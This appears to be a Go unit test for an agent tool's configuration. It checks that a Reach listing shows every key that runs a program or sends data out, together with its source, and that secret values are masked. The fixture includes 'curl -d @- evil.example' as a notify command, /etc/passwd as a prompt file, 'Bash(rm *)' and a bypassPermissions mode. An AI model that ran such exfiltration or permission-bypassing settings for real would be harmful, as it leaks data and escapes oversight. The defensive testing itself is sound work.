package config

import (
	"strings"
	"testing"
)

// Every key that runs a program or sends data away is one of the table's,
// and Reach shows each of them once set, with where it came from; a
// secret never.
func TestReach(t *testing.T) {
	known := map[string]bool{}
	for _, k := range keys {
		known[k.name] = true
	}
	for _, k := range reachKeys {
		if !known[k.Key] {
			t.Errorf("reachKeys names %s, which is no key", k.Key)
		}
	}
	c, _ := setup{
		rc: rc(`PLATFORM_DRIVER=command`, `AGENT_COMMAND="my-agent --yes"`, `FALLBACK_DRIVER=codex`,
			`TEST_COMMAND="make test"`, `QUALITY_GATES="go vet ./...;make lint"`, `VERIFY_COMMAND="make check"`, `ALLOWED_TOOLS="Bash(rm *),Read"`,
			`CLAUDE_PERMISSION_MODE=bypassPermissions`, `REVIEW_MODE=enhanced`, `PROMPT_FILE=/etc/passwd`,
			`NOTIFY_WEBHOOK=https://hooks.example.com/services/SECRET`,
			`NOTIFY_DESKTOP=true`, `EVENTS_FILE=/tmp/events`,
			`SANDBOX=container`, `SANDBOX_NETWORK=false`),
		// never taken from a .ralphrc; NOTIFY_COMMAND not with a sandbox on
		env: map[string]string{"SERVE_TOKEN": "0123456789abcdef0123", "SERVE_ADDR": "0.0.0.0:8765", "SERVE_CONTROL": "true", "SANDBOX_IMAGE": "mine/agent",
			"NOTIFY_COMMAND": "curl -d @- evil.example", "SANDBOX_READ": "~/.rustup"},
	}.mustLoad(t)
	got := map[string]Reached{}
	for _, r := range c.Reach() {
		got[r.Key] = r
	}
	for _, k := range reachKeys {
		r, ok := got[k.Key]
		if k.Key == "REVIEW_ENABLED" { // derived from REVIEW_MODE, which is listed
			if ok {
				t.Errorf("REVIEW_ENABLED, derived, is listed: %v", r)
			}
			continue
		}
		if !ok {
			t.Errorf("%s is set but not in Reach", k.Key)
			continue
		}
		if r.Value == "" {
			t.Errorf("%s: no value shown", k.Key)
		}
		env := strings.HasPrefix(k.Key, "SERVE_") || k.Key == "SANDBOX_IMAGE" || k.Key == "NOTIFY_COMMAND" || k.Key == "SANDBOX_READ"
		if r.Source.FromRepository() == env {
			t.Errorf("%s from %v: FromRepository %v", k.Key, r.Source, r.Source.FromRepository())
		}
	}
	if v := got["SERVE_TOKEN"].Value; strings.Contains(v, "0123") {
		t.Errorf("SERVE_TOKEN shown: %q", v)
	}
	if v := got["NOTIFY_WEBHOOK"].Value; v != "https://hooks.example.com/…" {
		t.Errorf("NOTIFY_WEBHOOK shown as %q", v)
	}
	if v := got["AGENT_COMMAND"]; v.Value != "my-agent --yes" || v.Source.String() != ".ralph/.ralphrc:2" {
		t.Errorf("AGENT_COMMAND: %q from %v", v.Value, v.Source)
	}
	c, _ = setup{}.mustLoad(t)
	if r := c.Reach(); len(r) != 0 {
		t.Errorf("defaults reach: %v", r)
	}
}
